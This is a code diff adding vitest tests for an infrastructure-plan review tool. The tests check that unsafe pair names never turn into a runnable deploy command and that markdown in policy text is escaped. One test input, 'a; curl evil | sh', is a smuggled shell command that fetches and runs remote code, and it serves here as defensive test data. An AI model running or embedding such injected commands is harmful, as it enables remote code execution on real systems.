@@ -1,9 +1,16 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { describe, expect, it } from "vitest";
-import { type PairReview, readPlan, renderTerminal, reviewPlan, reviewReport } from "../../lib/review";
+import {
+  type PairReview,
+  readPlan,
+  renderMarkdown,
+  renderTerminal,
+  reviewPlan,
+  reviewReport,
+} from "../../lib/review";
 import { differencePhrase, phraseText } from "../../lib/review/render/phrase";
-import { attaching, attachment, B, C, change, reviewOf, role, trust, trusting } from "./plans";
+import { attaching, attachment, B, C, change, planText, reviewOf, role, trust, trusting } from "./plans";
 
 /** What is said of a pair, a sentence a line. */
 function said(review: PairReview, known?: ReadonlyMap<string, string>): string {
@@ -149,6 +156,25 @@ describe("everything else in words", () => {
       "No deploy takes AdministratorAccess back: detach it from role ram-for-dts in the RAM console of the role's account, or with aliyun ram DetachPolicyFromRole --RoleName ram-for-dts --PolicyType System --PolicyName AdministratorAccess.",
     );
     expect(page).not.toContain("cdktf deploy");
+  });
+
+  it.each(["a; curl evil | sh", "a b", "--auto-approve", "$(x)"])("no command of a pair %j", (name) => {
+    const drift = change(["update"], role(trusting(B)), role(trusting(B, C)));
+    const plan = readPlan(planText({ resource_changes: [], resource_drift: [drift] }));
+    const page = said(reviewPlan(name, plan));
+    expect(page).toContain("To take it back: deploy this pair.");
+    expect(page).not.toContain("cdktf deploy");
+  });
+
+  it("what a policy allows, in a report of somebody else", () => {
+    const review = reviewOf([attaching(["create"], null, attachment("AliyunDTSFullAccess"))]);
+    const [policy] = review.change.policies;
+    const told = (allows: string) => {
+      const change = { ...review.change, policies: [{ ...(policy as NonNullable<typeof policy>), allows }] };
+      return renderMarkdown(reviewReport([{ ...review, change }]));
+    };
+    expect(told("everything in DTS")).toContain("It allows everything in DTS.");
+    expect(told("<b>[x](y)")).toContain("It allows `<b>[x](y)`.");
   });
 
   it("other resources", () => {
